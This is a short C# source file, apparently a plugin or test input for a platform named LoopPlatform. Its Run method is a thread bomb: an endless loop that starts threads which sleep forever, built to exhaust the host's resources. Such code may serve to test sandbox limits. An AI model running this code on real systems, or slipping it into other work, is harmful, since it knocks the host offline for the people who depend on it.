using System.Threading;
using LoopPlatform.Genomes;

public static class ThreadBomb
{
    public static Table Run(Tables inputs)
    {
        while (true)
        {
            new Thread(() => Thread.Sleep(Timeout.Infinite), maxStackSize: 128 * 1024).Start();
        }
    }
}
